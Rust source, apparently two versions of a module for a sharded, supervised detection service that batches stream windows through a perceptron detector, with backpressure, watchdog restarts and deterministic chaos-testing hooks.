        self.shed.load(Ordering::Relaxed)
    }

    /// Backoff-and-retry attempts performed by the policy paths across
    /// all clones of this submitter.
    pub fn retries(&self) -> u64 {
        self.retries.load(Ordering::Relaxed)
    }
}

/// Final state of one stream when the service shut down.
#[derive(Debug, Clone)]
pub struct StreamOutcome {
    /// The stream id.
    pub stream: u64,
    /// Health at shutdown.
    pub state: SessionState,
    /// Windows scored under degraded input.
    pub degraded_windows: usize,
    /// Windows accepted by the service but lost to a worker crash before
    /// they could be scored. Any loss quarantines the stream.
    pub lost_windows: usize,
    /// Every verdict rendered for the stream, in submission order.
    pub verdicts: Vec<IntervalVerdict>,
}

/// Everything the service did, merged across shards at shutdown.
#[derive(Debug, Clone)]
pub struct ServiceReport {
    /// Worker threads the service ran with.
    pub shards: usize,
    /// Total windows scored (equals total verdicts across streams).
    pub windows_scored: u64,
    /// Batched scoring sweeps executed.
    pub sweeps: u64,
    /// Largest number of windows coalesced into one sweep.
    pub max_coalesced: usize,
    /// `Busy` rejections observed by the service's own submitters.
    pub busy_rejections: u64,
    /// Windows shed by the policy submit paths (deadline / retry budget
    /// exhausted before the shard drained).
    pub shed: u64,
    /// Backoff-and-retry attempts performed by the policy submit paths.
    pub retries: u64,
    /// Windows NaN-stormed by the chaos plan before scoring.
    pub storms: u64,
    /// Every supervised worker restart, in per-shard order.
    pub restarts: Vec<ShardRestart>,
    /// Submit-to-verdict latency of every window, microseconds, sorted
    /// ascending.
    pub latencies_us: Vec<u32>,
    /// Per-stream outcomes, sorted by stream id.
    pub streams: Vec<StreamOutcome>,
}

impl ServiceReport {
    fn percentile_us(&self, p: f64) -> u64 {
        if self.latencies_us.is_empty() {
            return 0;
        }
        let idx = (p * (self.latencies_us.len() - 1) as f64).round() as usize;
        self.latencies_us[idx] as u64
    }

    /// Median submit-to-verdict latency, microseconds.
    pub fn p50_us(&self) -> u64 {
        self.percentile_us(0.50)
    }

    /// 99th-percentile submit-to-verdict latency, microseconds.
    pub fn p99_us(&self) -> u64 {
        self.percentile_us(0.99)
    }

    /// The verdict sequence of one stream, if it ever submitted.
    pub fn verdicts_of(&self, stream: u64) -> Option<&[IntervalVerdict]> {
        self.streams
            .binary_search_by_key(&stream, |s| s.stream)
            .ok()
            .map(|i| self.streams[i].verdicts.as_slice())
    }

    /// Streams quarantined by the degraded-window state machine (or by a
    /// lost window).
    pub fn quarantined_streams(&self) -> impl Iterator<Item = u64> + '_ {
        self.streams
            .iter()
            .filter(|s| s.state == SessionState::Quarantined)
            .map(|s| s.stream)
    }

    /// Windows lost to worker crashes, across all streams.
    pub fn lost_windows(&self) -> u64 {
        self.streams.iter().map(|s| s.lost_windows as u64).sum()
    }

    /// FNV-1a digest of every *data* observable the chaos plan is allowed
    /// to influence deterministically: scored-window and storm totals,
    /// and per stream the final state, degraded/lost accounting, and the
    /// bit-exact verdict sequence.
    ///
    /// Timing observables — latencies, sweep/coalescing shapes, busy,
    /// retry and shed counts, restart timing — are deliberately excluded:
    /// they depend on scheduling, not on the plan. Two runs of the same
    /// `(chaos seed, plan, corpus)` must produce the same fingerprint at
    /// any shard count; the crate's chaos proptests pin exactly that.
    pub fn chaos_fingerprint(&self) -> u64 {
        fn eat(h: &mut u64, bytes: &[u8]) {
            for &b in bytes {
                *h ^= b as u64;
                *h = h.wrapping_mul(0x100_0000_01b3);
            }
        }
        let mut h = 0xcbf2_9ce4_8422_2325u64;
        eat(&mut h, &self.windows_scored.to_le_bytes());
        eat(&mut h, &self.storms.to_le_bytes());
        eat(&mut h, &(self.streams.len() as u64).to_le_bytes());
        for s in &self.streams {
            eat(&mut h, &s.stream.to_le_bytes());
            eat(&mut h, &[s.state as u8]);
            eat(&mut h, &(s.degraded_windows as u64).to_le_bytes());
            eat(&mut h, &(s.lost_windows as u64).to_le_bytes());
            eat(&mut h, &(s.verdicts.len() as u64).to_le_bytes());
            for v in &s.verdicts {
                eat(&mut h, &v.at_inst.to_le_bytes());
                eat(&mut h, &v.confidence.to_bits().to_le_bytes());
                eat(&mut h, &[v.suspicious as u8]);
                match &v.degraded {
                    None => eat(&mut h, &[0]),
                    Some(d) => {
                        eat(&mut h, &[1]);
                        eat(&mut h, &(d.sanitized_values as u64).to_le_bytes());
                        for c in &d.missing_components {
                            eat(&mut h, c.as_bytes());
                            eat(&mut h, &[0xff]);
                        }
                    }
                }
            }
        }
        h
    }
}

struct ShardReport {
    windows: u64,
    sweeps: u64,
    max_coalesced: usize,
    storms: u64,
    restarts: Vec<ShardRestart>,
    latencies_us: Vec<u32>,
    streams: Vec<StreamOutcome>,
}

struct PendingWindow {
    stream: u64,
    at_inst: u64,
    degraded: Option<Degraded>,
    submitted: Instant,
}

/// Where in the message/sweep cycle the worker was when it last moved —
/// the recovery map. Each variant names the repair the supervisor applies
/// if an unwind lands there.
enum Region {
    /// Between messages: nothing to repair.
    Idle,
    /// Receiving a window, session untouched (the poison-pill site). The
    /// consumed message is gone: record the loss and quarantine the
    /// stream.
    Receiving { stream: u64 },
    /// Mid-handle, session possibly torn (open without a matching batch
    /// push). Roll the open back; if the batch holds an orphan row the
    /// whole batch is discarded with every pending stream quarantined —
    /// coarse, but this region is only reachable through a genuine bug,
    /// never through injected chaos.
    Opening { stream: u64 },
    /// Inside a scoring sweep: sessions are consistent (opened, not yet
    /// closed) and the batch is intact, so the respawned worker re-scores
    /// it — the carried batch. A batch that kills the worker twice is
    /// discarded instead, with every pending stream quarantined.
    Sweeping,
}

/// Per-shard liveness surface shared between worker, supervisor and
/// watchdog.
struct ShardMonitor {
    beats: AtomicU64,
    restart_requested: AtomicBool,
}

impl ShardMonitor {
    fn new() -> Self {
        Self {
            beats: AtomicU64::new(0),
            restart_requested: AtomicBool::new(false),
        }
    }

    fn beat(&self) {
        self.beats.fetch_add(1, Ordering::Relaxed);
    }

    fn beats(&self) -> u64 {
        self.beats.load(Ordering::Relaxed)
    }

    fn request_restart(&self) {
        self.restart_requested.store(true, Ordering::Relaxed);
    }

    fn take_restart(&self) -> bool {
        self.restart_requested.swap(false, Ordering::Relaxed)
    }
}

/// Volatile per-spawn state: everything rebuilt from the shared detector
/// when the worker (re)starts. Nothing here outlives a panic.
struct ShardEngine {
    encoder: RowEncoder,
    engine: PackedPerceptron,
    bits: BitRow,
    scores: Vec<f64>,
}

impl ShardEngine {
    fn new(detector: &PerSpectron, batch_cap: usize) -> Self {
        let encoder = detector.packed_encoder();
        let width = encoder.width();
        Self {
            engine: detector.packed_perceptron().clone(),
            encoder,
            bits: BitRow::zeros(width),
            scores: Vec::with_capacity(batch_cap),
        }
    }
}

/// Durable per-shard state, owned by the supervisor frame: survives
/// worker panics and is repaired — never rebuilt — across restarts.
struct ShardState {
    shard: usize,
    detector: Arc<PerSpectron>,
    sessions: HashMap<u64, StreamSession>,
    batch: PackedRows,
    pending: Vec<PendingWindow>,
    chaos: ShardChaos,
    region: Region,
    sweep_attempts: u32,
    restarts: Vec<ShardRestart>,
    latencies_us: Vec<u32>,
    windows: u64,
    sweeps: u64,
    max_coalesced: usize,
    storms: u64,
    batch_windows: usize,
    quarantine_after: usize,
    sweep_stall: Duration,
}

impl ShardState {
    fn new(detector: Arc<PerSpectron>, cfg: &ServiceConfig, shard: usize) -> Self {
        let width = detector.packed_encoder().width();
        Self {
            shard,
            sessions: HashMap::new(),
            batch: PackedRows::new(width),
            pending: Vec::with_capacity(cfg.batch_windows.max(1)),
            chaos: ShardChaos::new(Arc::new(cfg.chaos.clone()), shard),
            region: Region::Idle,
            sweep_attempts: 0,
            restarts: Vec::new(),
            latencies_us: Vec::new(),
            windows: 0,
            sweeps: 0,
            max_coalesced: 0,
            storms: 0,
            batch_windows: cfg.batch_windows.max(1),
            quarantine_after: cfg.quarantine_after.max(1),
            sweep_stall: cfg.sweep_stall,
            detector,
        }
    }

    fn handle(&mut self, msg: Msg, vol: &mut ShardEngine) {
        match msg {
            Msg::Window {
                stream,
                at_inst,
                mut row,
                submitted,
            } => {
                let detector = &self.detector;
                let quarantine_after = self.quarantine_after;
                let session = self.sessions.entry(stream).or_insert_with(|| {
                    StreamSession::new(detector).with_quarantine_after(quarantine_after)
                });
                // The per-stream arrival index: windows already opened for
                // this stream, including ones still pending in the batch.
                // Per-stream FIFO makes it deterministic at any shard
                // count, which is what keys the window-level chaos.
                let window_index = session.windows_opened();
                self.region = Region::Receiving { stream };
                self.chaos.pill(stream, window_index);
                if self.chaos.storm(stream, window_index, &mut row) > 0 {
                    self.storms += 1;
                }
                self.region = Region::Opening { stream };
                let (point, degraded) = session.open_window(&mut row);
                vol.encoder.encode_bits_into(&row, point, &mut vol.bits);
                self.batch
                    .push(&vol.bits)
                    .expect("encoder and batch widths agree");
                self.pending.push(PendingWindow {
                    stream,
                    at_inst,
                    degraded,
                    submitted,
                });
                self.region = Region::Idle;
            }
            Msg::Drain(ack) => {
                // Everything submitted before the drain is already in the
                // queue ahead of it (per-queue FIFO): sweep, then ack.
                self.sweep(vol);
                let _ = ack.send(());
            }
        }
    }

    /// Scores the current batch in one `score_rows` sweep and closes
    /// every pending window against its session.
    fn sweep(&mut self, vol: &mut ShardEngine) {
        if self.pending.is_empty() {
            return;
        }
        self.region = Region::Sweeping;
        // 1-based: "panic at sweep N" fires before sweep N scores, and a
        // carried batch retries the *same* number after the respawn.
        self.chaos.before_sweep(self.sweeps + 1);
        if !self.sweep_stall.is_zero() {
            std::thread::sleep(self.sweep_stall);
        }
        vol.engine.score_rows(&self.batch, &mut vol.scores);
        debug_assert_eq!(vol.scores.len(), self.pending.len());
        let scored_at = Instant::now();
        self.max_coalesced = self.max_coalesced.max(self.pending.len());
        self.windows += self.pending.len() as u64;
        self.sweeps += 1;
        for (pw, &raw) in self.pending.drain(..).zip(vol.scores.iter()) {
            let session = self
                .sessions
                .get_mut(&pw.stream)
                .expect("pending window belongs to an open session");
            session.close_window(&self.detector, pw.at_inst, pw.degraded, raw);
            let us = scored_at.duration_since(pw.submitted).as_micros();
            self.latencies_us
                .push(u32::try_from(us).unwrap_or(u32::MAX));
        }
        self.batch.clear();
        self.sweep_attempts = 0;
        self.region = Region::Idle;
    }

    /// Discards the in-flight batch, quarantining every stream that loses
    /// a window — loss is never silent.
    fn discard_batch(&mut self) {
        for pw in self.pending.drain(..) {
            if let Some(s) = self.sessions.get_mut(&pw.stream) {
                s.record_lost_window();
            }
        }
        self.batch.clear();
        self.sweep_attempts = 0;
    }

    /// Repairs the durable state after an unwind, according to the region
    /// the worker died in. Afterwards the batch/pending pair is
    /// consistent and every lost window is accounted for on its session.
    fn repair_after_unwind(&mut self) {
        let detector = Arc::clone(&self.detector);
        match std::mem::replace(&mut self.region, Region::Idle) {
            Region::Idle => {}
            Region::Receiving { stream } => {
                // The message was consumed before the crash: exactly one
                // window lost, on a session that was never touched.
                let quarantine_after = self.quarantine_after;
                self.sessions
                    .entry(stream)
                    .or_insert_with(|| {
                        StreamSession::new(&detector).with_quarantine_after(quarantine_after)
                    })
                    .record_lost_window();
            }
            Region::Opening { stream } => {
                if let Some(s) = self.sessions.get_mut(&stream) {
                    s.rollback_open();
                    s.record_lost_window();
                }
                if self.batch.len() > self.pending.len() {
                    // The encoded row made it into the batch but its
                    // bookkeeping did not; PackedRows has no pop, so the
                    // whole batch goes, loudly.
                    self.discard_batch();
                }
            }
            Region::Sweeping => {
                self.sweep_attempts += 1;
                if self.sweep_attempts >= 2 {
                    // The same batch killed the worker twice: a poison
                    // batch, not a transient. Drop it rather than crash-loop.
                    self.discard_batch();
                }
                // Otherwise: carried batch — sessions are open and the
                // rows are intact; the respawned engine re-scores them
                // bit-identically (same frozen weights).
            }
        }
    }

    /// Re-homes every session onto the respawned worker via the
    /// checkpoint round-trip, preserving sampling-point cursors, verdict
    /// logs, and sticky degraded/quarantine accounting exactly.
    fn rehome_sessions(&mut self) {
        let detector = Arc::clone(&self.detector);
        self.sessions = std::mem::take(&mut self.sessions)
            .into_iter()
            .map(|(stream, session)| {
                (
                    stream,
                    StreamSession::restore(&detector, session.into_snapshot()),
                )
            })
            .collect();
    }

    fn into_report(self) -> ShardReport {
        let mut streams: Vec<StreamOutcome> = self
            .sessions
            .into_iter()
            .map(|(stream, session)| StreamOutcome {
                stream,
                state: session.state(),
                degraded_windows: session.degraded_windows(),
                lost_windows: session.lost_windows(),
                verdicts: session.into_verdicts(),
            })
            .collect();
        streams.sort_by_key(|s| s.stream);
        ShardReport {
            windows: self.windows,
            sweeps: self.sweeps,
            max_coalesced: self.max_coalesced,
            storms: self.storms,
            restarts: self.restarts,
            latencies_us: self.latencies_us,
            streams,
        }
    }
}

enum LoopExit {
    /// Queue disconnected: all submitters gone, stragglers swept.
    Disconnected,
    /// The watchdog asked for a restart and the worker complied.
    RestartRequested,
}

/// The worker loop proper: runs until disconnect, restart request, or
/// panic. Durable state is borrowed from the supervisor; `vol` is this
/// spawn's private engine.
fn worker_loop(
    st: &mut ShardState,
    vol: &mut ShardEngine,
    rx: &Receiver<Msg>,
    monitor: &ShardMonitor,
    tick: Duration,
) -> LoopExit {
    // A carried batch from before a restart drains first, so re-homed
    // sessions see their windows close in the original order.
    st.sweep(vol);
    loop {
        monitor.beat();
        if monitor.take_restart() {
            return LoopExit::RestartRequested;
        }
        // Block for the first message of a burst (waking every tick to
        // heartbeat), then coalesce whatever else is already queued — up
        // to one batch — into the same sweep.
        match rx.recv_timeout(tick) {
            Ok(msg) => {
                st.handle(msg, vol);
                loop {
                    if st.pending.len() >= st.batch_windows {
                        st.sweep(vol);
                    }
                    monitor.beat();
                    match rx.try_recv() {
                        Ok(m) => st.handle(m, vol),
                        Err(_) => break,
                    }
                }
                st.sweep(vol);
            }
            Err(RecvTimeoutError::Timeout) => continue,
            Err(RecvTimeoutError::Disconnected) => break,
        }
    }
    // Channel disconnected: score any straggler batch and exit.
    st.sweep(vol);
    LoopExit::Disconnected
}

/// The supervisor: owns the durable state, respawns the worker loop after
/// panics and watchdog restarts, and gives up (re-raising) past the
/// restart budget.
fn supervise(
    mut st: ShardState,
    rx: Receiver<Msg>,
    monitor: Arc<ShardMonitor>,
    tick: Duration,
    max_restarts: usize,
) -> ShardReport {
    loop {
        let mut vol = ShardEngine::new(&st.detector, st.batch_windows);
        let exit = catch_unwind(AssertUnwindSafe(|| {
            worker_loop(&mut st, &mut vol, &rx, &monitor, tick)
        }));
        match exit {
            Ok(LoopExit::Disconnected) => break,
            Ok(LoopExit::RestartRequested) => {
                st.restarts.push(ShardRestart {
                    shard: st.shard,
                    cause: RestartCause::Wedged,
                    at_sweep: st.sweeps,
                });
                if st.restarts.len() > max_restarts {
                    panic!(
                        "shard {} wedged beyond its restart budget ({max_restarts})",
                        st.shard
                    );
                }
                // A cooperative restart exits at a loop boundary: the
                // region is Idle and nothing needs repair.
                st.rehome_sessions();
            }
            Err(payload) => {
                let message = panic_message(payload.as_ref());
                st.restarts.push(ShardRestart {
                    shard: st.shard,
                    cause: RestartCause::Panic { message },
                    at_sweep: st.sweeps,
                });
                if st.restarts.len() > max_restarts {
                    resume_unwind(payload);
                }
                st.repair_after_unwind();
                st.rehome_sessions();
            }
        }
    }
    st.into_report()
}

/// The watchdog loop: samples every shard's heartbeat each tick and
/// requests a restart after `budget` consecutive stale samples.
fn watchdog_loop(
    monitors: Arc<Vec<Arc<ShardMonitor>>>,
    stop: Arc<AtomicBool>,
    tick: Duration,
    budget: u32,
) {
    let mut last: Vec<u64> = monitors.iter().map(|m| m.beats()).collect();
    let mut stale: Vec<u32> = vec![0; monitors.len()];
    while !stop.load(Ordering::Relaxed) {
        std::thread::sleep(tick);
        for (i, m) in monitors.iter().enumerate() {
            let beats = m.beats();
            if beats == last[i] {
                stale[i] += 1;
                if stale[i] >= budget {
                    m.request_restart();
                    stale[i] = 0;
                }
            } else {
                last[i] = beats;
                stale[i] = 0;
            }
        }
    }
}

/// A running detection service. Constructed by [`Perspectrond::start`];
/// torn down (and its results collected) by [`Perspectrond::shutdown`].
#[derive(Debug)]
pub struct Perspectrond {
    submitter: Submitter,
    joins: Vec<JoinHandle<ShardReport>>,
    watchdog: Option<JoinHandle<()>>,
    stop: Arc<AtomicBool>,
}

impl Perspectrond {
    /// Spawns the supervised shard workers and the watchdog, returning
    /// the running service. The detector is cloned once and shared
    /// read-only across shards.
    pub fn start(detector: &PerSpectron, config: ServiceConfig) -> Self {
        let shards = config.shards.max(1);
        let tick = config.watchdog.tick.max(Duration::from_millis(1));
        let stall_budget = config.watchdog.stall_budget.max(2);
        let max_restarts = config.max_restarts_per_shard;
        let detector = Arc::new(detector.clone());
        let mut txs = Vec::with_capacity(shards);
        let mut joins = Vec::with_capacity(shards);
        let mut monitors = Vec::with_capacity(shards);
        for id in 0..shards {
            let (tx, rx) = sync_channel(config.queue_depth.max(1));
            let state = ShardState::new(Arc::clone(&detector), &config, id);
            let monitor = Arc::new(ShardMonitor::new());
            let worker_monitor = Arc::clone(&monitor);
            let join = std::thread::Builder::new()
                .name(format!("perspectrond-shard{id}"))
                .spawn(move || supervise(state, rx, worker_monitor, tick, max_restarts))
                .expect("spawn shard worker");
            txs.push(tx);
            joins.push(join);
            monitors.push(monitor);
        }
        let stop = Arc::new(AtomicBool::new(false));
        let watchdog = {
            let monitors = Arc::new(monitors);
            let stop = Arc::clone(&stop);
            Some(
                std::thread::Builder::new()
                    .name("perspectrond-watchdog".to_string())
                    .spawn(move || watchdog_loop(monitors, stop, tick, stall_budget))
                    .expect("spawn watchdog"),
            )
        };
        Self {
            submitter: Submitter {
                txs: txs.into(),
                busy: Arc::new(AtomicU64::new(0)),
                shed: Arc::new(AtomicU64::new(0)),
                retries: Arc::new(AtomicU64::new(0)),
                policy: config.submit_policy,
            },
            joins,
            watchdog,
            stop,
        }
    }

    /// Worker threads the service runs with.
    pub fn shards(&self) -> usize {
        self.joins.len()
    }

    /// A cloneable submission handle for producer threads.
    pub fn submitter(&self) -> Submitter {
        self.submitter.clone()
    }

    /// Blocks until every shard has scored everything submitted before
    /// this call — a verdict barrier (partial batches are swept, not
    /// awaited). If a shard crashes while draining, its ack is dropped
    /// and the barrier releases early for that shard; the carried batch
    /// is scored after the respawn and always by shutdown.
    pub fn drain(&self) {
        let mut acks = Vec::with_capacity(self.joins.len());
        for tx in self.submitter.txs.iter() {
            let (ack_tx, ack_rx) = sync_channel(1);
            if tx.send(Msg::Drain(ack_tx)).is_ok() {
                acks.push(ack_rx);
            }
        }
        for ack in acks {
            let _ = ack.recv();
        }
    }

    /// Stops accepting work, waits for the shards to score every queued
    /// window, and returns the merged report.
    ///
    /// All [`Submitter`] clones must already be dropped — shards exit on
    /// queue disconnect, so a live clone elsewhere keeps them (and this
    /// call) waiting.
    ///
    /// # Errors
    ///
    /// [`ServiceError::ShardPanicked`] when a shard died beyond its
    /// restart budget. The error still carries the merged report of every
    /// surviving shard — partial results are returned, not discarded.
    pub fn shutdown(self) -> Result<ServiceReport, ServiceError> {
        let busy = self.submitter.busy_rejections();
        let shed = self.submitter.shed();
        let retries = self.submitter.retries();
        let shards = self.joins.len();
        drop(self.submitter);
        let mut report = ServiceReport {
            shards,
            windows_scored: 0,
            sweeps: 0,
            max_coalesced: 0,
            busy_rejections: busy,
            shed,
            retries,
            storms: 0,
            restarts: Vec::new(),
            latencies_us: Vec::new(),
            streams: Vec::new(),
        };
        let mut failed: Option<(usize, String)> = None;
        for (shard, join) in self.joins.into_iter().enumerate() {
            match join.join() {
                Ok(part) => {
                    report.windows_scored += part.windows;
                    report.sweeps += part.sweeps;
                    report.max_coalesced = report.max_coalesced.max(part.max_coalesced);
                    report.storms += part.storms;
                    report.restarts.extend(part.restarts);
                    report.latencies_us.extend(part.latencies_us);
                    report.streams.extend(part.streams);
                }
                Err(payload) => {
                    let message = panic_message(payload.as_ref());
                    failed.get_or_insert((shard, message));
                }
            }
        }
        // The watchdog outlives the workers: a shard that wedges while
        // draining its final windows must still be caught. Only once every
        // worker has exited is there nothing left to watch.
        self.stop.store(true, Ordering::Relaxed);
        if let Some(w) = self.watchdog {
            let _ = w.join();
        }
        report.latencies_us.sort_unstable();
        report.streams.sort_by_key(|s| s.stream);
        report.restarts.sort_by_key(|r| r.shard);
        match failed {
            None => Ok(report),
            Some((shard, message)) => Err(ServiceError::ShardPanicked {
                shard,
                message,
                partial: Box::new(report),
            }),
        }
    }
}
