//! The sharded detection service: N worker threads, each owning a shard
//! of stream sessions, fed through bounded queues with explicit
//! backpressure and scoring windows in cross-session batched sweeps.
//!
//! # Architecture
//!
//! ```text
//!  clients ──try_submit──► [bounded MPSC, depth Q] ──► shard 0 ─┐
//!  clients ──try_submit──► [bounded MPSC, depth Q] ──► shard 1 ─┼─► ServiceReport
//!                      …                                   …    ┘
//! ```
//!
//! A stream id hashes (FNV-1a) to exactly one shard, so one stream's
//! windows are always processed by one thread in submission order. Each
//! shard coalesces up to `batch_windows` queued windows — **across** its
//! sessions — into a single [`PackedRows`] sweep through
//! [`PackedPerceptron::score_rows`], amortizing the batch advantage over
//! the whole shard instead of one stream. Because a window's verdict
//! depends only on its own row bits and its stream's sampling point,
//! batch composition is invisible in the output: per-stream verdict
//! sequences are bit-identical to running each stream alone through
//! `PerSpectron::streaming_packed`, whatever the shard count or arrival
//! interleaving (pinned by the crate's tests).
//!
//! # Backpressure
//!
//! Queues are `std::sync::mpsc::sync_channel`s with a fixed depth.
//! [`Submitter::try_submit`] never blocks and never buffers beyond that
//! depth: a full shard queue surfaces as [`SubmitError::Busy`] and the
//! caller decides — retry, skip the window, or shed the stream. Memory is
//! bounded by `shards × queue_depth` in-flight windows no matter how far
//! producers outrun the scorer.

use std::collections::HashMap;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::mpsc::{sync_channel, Receiver, SyncSender, TrySendError};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use mlkit::{BitRow, PackedPerceptron, PackedRows};
use perspectron::stream::DEFAULT_QUARANTINE_AFTER;
use perspectron::{
    Degraded, IntervalVerdict, PerSpectron, RowEncoder, SessionState, StreamSession,
};

/// How the service is shaped: worker count, queue bound, batching policy.
#[derive(Debug, Clone)]
pub struct ServiceConfig {
    /// Worker threads, each owning one shard of streams. Clamped to ≥ 1.
    pub shards: usize,
    /// Bounded depth of each shard's submission queue — the backpressure
    /// knob. Clamped to ≥ 1.
    pub queue_depth: usize,
    /// Maximum windows coalesced into one batched scoring sweep.
    /// Clamped to ≥ 1.
    pub batch_windows: usize,
    /// Consecutive degraded windows before a stream is quarantined.
    pub quarantine_after: usize,
    /// Artificial delay before each scoring sweep — zero in production;
    /// tests and benches set it to emulate a slow consumer so queue
    /// backpressure becomes observable.
    pub sweep_stall: Duration,
}

impl Default for ServiceConfig {
    fn default() -> Self {
        Self {
            shards: std::thread::available_parallelism().map_or(1, |n| n.get()),
            queue_depth: 256,
            batch_windows: 64,
            quarantine_after: DEFAULT_QUARANTINE_AFTER,
            sweep_stall: Duration::ZERO,
        }
    }
}

/// Why a submission was not accepted.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SubmitError {
    /// The target shard's queue is full — explicit shed-load signal; the
    /// window was **not** buffered anywhere. Retry later or drop it.
    Busy {
        /// The shard whose queue was full.
        shard: usize,
    },
    /// The service has shut down; no further windows can be scored.
    Shutdown,
}

impl std::fmt::Display for SubmitError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            SubmitError::Busy { shard } => write!(f, "shard {shard} queue full"),
            SubmitError::Shutdown => write!(f, "service is shut down"),
        }
    }
}

impl std::error::Error for SubmitError {}

enum Msg {
    Window {
        stream: u64,
        at_inst: u64,
        row: Box<[f64]>,
        submitted: Instant,
    },
    Drain(SyncSender<()>),
}

/// FNV-1a 64 over the stream id — the shard routing hash.
fn stream_hash(stream: u64) -> u64 {
    let mut h = 0xcbf2_9ce4_8422_2325u64;
    for b in stream.to_le_bytes() {
        h ^= b as u64;
        h = h.wrapping_mul(0x100_0000_01b3);
    }
    h
}

/// A cloneable, thread-safe submission handle.
///
/// Clone one per producer thread. Windows for one stream must be
/// submitted in order by a single thread at a time — the service
/// preserves per-queue FIFO order, not cross-thread wall-clock order.
///
/// **Every clone must be dropped before [`Perspectrond::shutdown`] can
/// complete**: shards exit when their queue disconnects, which requires
/// all senders gone.
#[derive(Debug, Clone)]
pub struct Submitter {
    txs: Arc<[SyncSender<Msg>]>,
    busy: Arc<AtomicU64>,
}

impl Submitter {
    /// The shard a stream's windows are processed by.
    pub fn shard_of(&self, stream: u64) -> usize {
        (stream_hash(stream) % self.txs.len() as u64) as usize
    }

    /// Submits one sampling window without blocking. `row` is the
    /// stream's raw counter-delta row (full schema width); `at_inst` the
    /// committed-instruction count when the window closed.
    ///
    /// # Errors
    ///
    /// [`SubmitError::Busy`] when the shard's bounded queue is full (the
    /// window is dropped back to the caller), [`SubmitError::Shutdown`]
    /// when the shard is gone.
    pub fn try_submit(
        &self,
        stream: u64,
        at_inst: u64,
        row: Box<[f64]>,
    ) -> Result<(), SubmitError> {
        let shard = self.shard_of(stream);
        match self.txs[shard].try_send(Msg::Window {
            stream,
            at_inst,
            row,
            submitted: Instant::now(),
        }) {
            Ok(()) => Ok(()),
            Err(TrySendError::Full(_)) => {
                self.busy.fetch_add(1, Ordering::Relaxed);
                Err(SubmitError::Busy { shard })
            }
            Err(TrySendError::Disconnected(_)) => Err(SubmitError::Shutdown),
        }
    }

    /// Submits one window, blocking while the shard's queue is full —
    /// backpressure propagates to the producer instead of shedding.
    ///
    /// # Errors
    ///
    /// [`SubmitError::Shutdown`] when the shard is gone.
    pub fn submit(&self, stream: u64, at_inst: u64, row: Box<[f64]>) -> Result<(), SubmitError> {
        let shard = self.shard_of(stream);
        self.txs[shard]
            .send(Msg::Window {
                stream,
                at_inst,
                row,
                submitted: Instant::now(),
            })
            .map_err(|_| SubmitError::Shutdown)
    }

    /// `Busy` rejections observed across all clones of this submitter.
    pub fn busy_rejections(&self) -> u64 {
        self.busy.load(Ordering::Relaxed)
    }
}

/// Final state of one stream when the service shut down.
#[derive(Debug, Clone)]
pub struct StreamOutcome {
    /// The stream id.
    pub stream: u64,
    /// Health at shutdown.
    pub state: SessionState,
    /// Windows scored under degraded input.
    pub degraded_windows: usize,
    /// Every verdict rendered for the stream, in submission order.
    pub verdicts: Vec<IntervalVerdict>,
}

/// Everything the service did, merged across shards at shutdown.
#[derive(Debug, Clone)]
pub struct ServiceReport {
    /// Worker threads the service ran with.
    pub shards: usize,
    /// Total windows scored (equals total verdicts across streams).
    pub windows_scored: u64,
    /// Batched scoring sweeps executed.
    pub sweeps: u64,
    /// Largest number of windows coalesced into one sweep.
    pub max_coalesced: usize,
    /// `Busy` rejections observed by the service's own submitters.
    pub busy_rejections: u64,
    /// Submit-to-verdict latency of every window, microseconds, sorted
    /// ascending.
    pub latencies_us: Vec<u32>,
    /// Per-stream outcomes, sorted by stream id.
    pub streams: Vec<StreamOutcome>,
}

impl ServiceReport {
    fn percentile_us(&self, p: f64) -> u64 {
        if self.latencies_us.is_empty() {
            return 0;
        }
        let idx = (p * (self.latencies_us.len() - 1) as f64).round() as usize;
        self.latencies_us[idx] as u64
    }

    /// Median submit-to-verdict latency, microseconds.
    pub fn p50_us(&self) -> u64 {
        self.percentile_us(0.50)
    }

    /// 99th-percentile submit-to-verdict latency, microseconds.
    pub fn p99_us(&self) -> u64 {
        self.percentile_us(0.99)
    }

    /// The verdict sequence of one stream, if it ever submitted.
    pub fn verdicts_of(&self, stream: u64) -> Option<&[IntervalVerdict]> {
        self.streams
            .binary_search_by_key(&stream, |s| s.stream)
            .ok()
            .map(|i| self.streams[i].verdicts.as_slice())
    }

    /// Streams quarantined by the degraded-window state machine.
    pub fn quarantined_streams(&self) -> impl Iterator<Item = u64> + '_ {
        self.streams
            .iter()
            .filter(|s| s.state == SessionState::Quarantined)
            .map(|s| s.stream)
    }
}

struct ShardReport {
    windows: u64,
    sweeps: u64,
    max_coalesced: usize,
    latencies_us: Vec<u32>,
    streams: Vec<StreamOutcome>,
}

struct PendingWindow {
    stream: u64,
    at_inst: u64,
    degraded: Option<Degraded>,
    submitted: Instant,
}

/// One worker thread's whole world: its sessions, the frozen engine, and
/// the current batch.
struct ShardWorker {
    detector: Arc<PerSpectron>,
    encoder: RowEncoder,
    engine: PackedPerceptron,
    sessions: HashMap<u64, StreamSession>,
    bits: BitRow,
    batch: PackedRows,
    pending: Vec<PendingWindow>,
    scores: Vec<f64>,
    latencies_us: Vec<u32>,
    windows: u64,
    sweeps: u64,
    max_coalesced: usize,
    batch_windows: usize,
    quarantine_after: usize,
    sweep_stall: Duration,
}

impl ShardWorker {
    fn new(detector: Arc<PerSpectron>, cfg: &ServiceConfig) -> Self {
        let encoder = detector.packed_encoder();
        let width = encoder.width();
        Self {
            engine: detector.packed_perceptron().clone(),
            detector,
            encoder,
            sessions: HashMap::new(),
            bits: BitRow::zeros(width),
            batch: PackedRows::new(width),
            pending: Vec::with_capacity(cfg.batch_windows.max(1)),
            scores: Vec::with_capacity(cfg.batch_windows.max(1)),
            latencies_us: Vec::new(),
            windows: 0,
            sweeps: 0,
            max_coalesced: 0,
            batch_windows: cfg.batch_windows.max(1),
            quarantine_after: cfg.quarantine_after.max(1),
            sweep_stall: cfg.sweep_stall,
        }
    }

    fn handle(&mut self, msg: Msg) {
        match msg {
            Msg::Window {
                stream,
                at_inst,
                mut row,
                submitted,
            } => {
                let session = self.sessions.entry(stream).or_insert_with(|| {
                    StreamSession::new(&self.detector).with_quarantine_after(self.quarantine_after)
                });
                let (point, degraded) = session.open_window(&mut row);
                self.encoder.encode_bits_into(&row, point, &mut self.bits);
                self.batch
                    .push(&self.bits)
                    .expect("encoder and batch widths agree");
